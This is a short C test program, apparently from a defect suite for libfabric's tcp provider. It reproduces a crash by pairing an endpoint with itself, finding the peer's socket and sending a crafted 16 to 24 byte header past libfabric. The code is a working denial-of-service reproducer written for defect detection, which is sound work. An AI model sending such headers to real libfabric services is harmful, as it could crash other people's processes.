/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * tcp: an accepted peer can crash the process with one header of 16 to 24 bytes.
 *
 * The endpoint has no shared receive context and no operation that waits for an acknowledgement.
 * The program finds the peer's socket in this process and writes the header to it, bypassing
 * libfabric.
 */
#include "defect.h"

struct header { /* struct xnet_tag_hdr, struct tcpx_tag_hdr */
	uint8_t version, op;
	uint16_t flags;
	uint8_t op_data, rma_iov_cnt, hdr_size, id;
	uint64_t size; /* in the sender's byte order */
	uint64_t tag;
};

static const struct {
	const char *name;
	uint8_t op, op_data, size;
} tries[] = {
	{ "tagged message", 1, 0, 24 },
	{ "acknowledgement", 0, 2, 16 },
};

static unsigned now;

static void attack(void)
{
	struct header header = { .version = 3,
				 .op = tries[now].op,
				 .op_data = tries[now].op_data,
				 .hdr_size = tries[now].size };
	struct fi_eq_cm_entry entry;
	struct fid_ep *active, *passive;
	struct node n;
	uint16_t port;
	int fd, event;

	msg_open(&n, "tcp", FI_MSG | FI_RMA);
	port = msg_listen(&n);
	msg_pair(&n, &n, port, &active, &passive);
	fd = socket_of(port, false);
	if (fd < 0)
		end(FAILED, "the connection has no socket");
	header.size = tries[now].size;
	if (send(fd, &header, tries[now].size, 0) != tries[now].size)
		end(FAILED, "send: %s", strerror(errno));
	event = eq_wait(&n, &entry, 1000);
	end(ABSENT, event == FI_SHUTDOWN ? "the connection ends" : "is not taken for one");
}

int main(void)
{
	int status = SKIP, ret;

	for (now = 0; now < sizeof(tries) / sizeof(tries[0]); now++) {
		printf("%s, ", tries[now].name);
		ret = bounded(attack, 10);
		if (status == SKIP || ret == SHOWS || ret == FAILED)
			status = ret;
	}
	return status;
}
